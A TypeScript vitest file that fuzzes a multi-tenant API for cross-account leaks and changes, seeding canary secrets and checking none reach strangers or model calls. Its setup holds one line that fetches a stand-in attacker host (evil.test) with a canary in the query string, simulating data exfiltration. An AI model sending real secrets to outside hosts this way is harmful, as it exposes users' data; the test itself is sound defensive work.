import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { api } from '../../src/wire/api'
import { addFetchTools } from '../support/fetch-tools'
import { fetching, guarded } from '../support/guarded'
import { Random } from '../support/random'
import { inForm, seed, tell } from './form'
import { type Declared, surfacesOf } from './requests/declared'
import { type Tenant, tenant } from './tenants/account'
import { type Canaries, canaries, fillStores } from './tenants/canaries'
import { type Battle, fuzz, type Outcome } from './tenants/fuzz'
import { everythingOf, Knowledge } from './tenants/knowledge'
import { type Fault, faults, leaky } from './tenants/leaky'
import { sendDeployed } from './tenants/send'
import { stranger } from './tenants/stranger'

const REQUESTS = inForm({ short: 1000, long: 100_000 })
/** A fault ends its run once it is met, mostly within a thousand; so many that no seed passes it by. */
const MUTANT_REQUESTS = 20_000

/** Contents of files, and a key that nobody reads again; each twice. */
const NOT_READ_AS_JSON = ['provider', 'provider', 'r2', 'r2']

const surfaces = surfacesOf(api)
afterAll(addFetchTools())

let ann: Tenant
let theirs: Knowledge
let canary: Canaries
/** What the models of strangers were told of the account. */
const toldModels = new Set<string>()

beforeAll(async () => {
  ann = await tenant('ann')
  const { model, waiting } = guarded(ann.account)
  canary = canaries()
  // Of one conversation the stranger knows every id, of another none.
  await fillStores(ann, model, canary)
  const hidden = new Knowledge()
  await everythingOf(ann, surfaces, hidden)
  await fillStores(ann, model, canary)
  await waiting([fetching(`https://evil.test/?${canary.in('approval')}`)])
  theirs = new Knowledge()
  await everythingOf(ann, surfaces, theirs)
  const common = new Knowledge()
  await everythingOf(await tenant('cid'), surfaces, common)
  theirs.forget([...hidden.ids, ...common.ids])
  hidden.forget(common.ids)
  canary.all.push(ann.account, ann.cookie, ...hidden.ids)
  // From here on whoever calls a model is a stranger.
  vi.spyOn(globalThis, 'fetch').mockImplementation(async (_, init) => {
    const asked = String(init?.body)
    for (const secret of canary.all) if (asked.includes(secret)) toldModels.add(secret)
    return Response.json({ error: { message: 'No.' } }, { status: 400 })
  })
})

async function battle(changes: Partial<Battle> = {}): Promise<Outcome> {
  return fuzz({
    surfaces,
    random: new Random(seed),
    send: sendDeployed,
    victim: ann,
    theirs,
    secrets: canary.all,
    stranger: await stranger(surfaces),
    requests: REQUESTS,
    ...changes,
  })
}

test('nothing of an account is told to another, and nothing of it is changed', { timeout: 3_600_000 }, async () => {
  const before = await lastingOf(ann)
  // Every store was filled: a canary that its own account cannot read either would be looked for in vain.
  const own = JSON.stringify(before)
  const unseen = canary.all.filter((each) => each.startsWith('canary-') && !own.includes(each))
  expect(unseen.map((each) => each.split('-')[1]).sort()).toEqual(NOT_READ_AS_JSON)

  const outcome = await battle()

  const statuses = [...outcome.statuses].sort().map(([status, count]) => `${count} of ${status}`)
  tell(
    `tenant fuzz: ${outcome.requests} requests under seed ${seed}, ${outcome.leaks.length} leaks, ${statuses.join(', ')}`,
  )
  tell(`tenant fuzz: a foreign thing takes ${ratioOf(outcome).toFixed(2)} times what a missing one takes (median)`)
  expect.soft(outcome.leaks).toEqual([])
  expect.soft(outcome.differences).toEqual([])
  expect.soft([...outcome.operations].sort()).toEqual(Object.keys(api).sort())
  expect.soft([...toldModels]).toEqual([])
  expect.soft(await lastingOf(ann)).toEqual(before)
})

describe('the fuzz would find', () => {
  test.each(Object.entries(faults))('%s', { timeout: 600_000 }, async (_, fault: Fault) => {
    const extra: Record<string, Declared> = fault.endpoint ? { leak: fault.endpoint } : {}
    const outcome = await battle({
      surfaces: surfacesOf({ ...api, ...extra }),
      send: leaky(fault, ann),
      requests: MUTANT_REQUESTS,
      isEnough: (found) => found[fault.shows].length > 0,
    })
    expect(outcome[fault.shows].length, fault.shows).toBeGreaterThan(0)
  })
})

/** All that an account can read but its rate of requests, which reading raises, and when its counts begin anew. */
async function lastingOf(account: Tenant): Promise<unknown> {
  const text = JSON.stringify([...(await everythingOf(account, surfaces))])
  return JSON.parse(text.replace(/"requestsThisMinute":\{[^}]*\},?/, '').replace(/"resetsAt":\d+/g, '"resetsAt":0'))
}

function ratioOf({ pairs }: Outcome): number {
  const median = (numbers: number[]) => numbers.sort((a, b) => a - b)[Math.floor(numbers.length / 2)] ?? 0
  return median(pairs.map(({ foreignMs }) => foreignMs)) / median(pairs.map(({ missingMs }) => missingMs))
}
